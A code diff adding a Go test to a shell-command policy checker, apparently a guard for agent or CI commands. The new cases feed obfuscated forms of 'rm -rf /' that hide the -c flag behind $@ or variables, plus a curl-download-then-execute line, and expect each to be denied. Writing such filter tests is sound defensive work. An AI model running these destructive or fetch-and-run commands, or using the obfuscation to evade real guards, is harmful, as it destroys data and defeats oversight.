@@ -507,3 +507,20 @@ func TestProgramPathsAndDynamicWrappers(t *testing.T) {
 		{"gcloud kms decrypt\n  --ciphertext-file=ci/secrets.tar.enc", Allow, "default"},
 	})
 }
+
+// A shell option word the walk cannot read may be -c: the word after it
+// is judged as code (bashdiff, seed 76: sh -$@c 'rm -rf /').
+func TestDynamicShellOptions(t *testing.T) {
+	p := mustCompile(t, Default(), testEnv)
+	rm := "default:rm-root"
+	runCases(t, p, []checkCase{
+		{"sh -$@c 'rm -rf /'", Deny, rm},
+		{"sh -c$@ 'rm -rf /'", Deny, rm},
+		{"bash -$x'c' 'rm -rf /'", Deny, rm},
+		{"sh $opt 'rm -rf /'", Deny, rm},
+		{`sh "$script"`, Allow, "default"},
+		{`bash "$script" --force`, Allow, "default"},
+		{"bash -$x script.sh", Allow, "default"},
+		{`f=$(curl -s https://x); sh "$f" arg`, Deny, "default:download-exec"},
+	})
+}
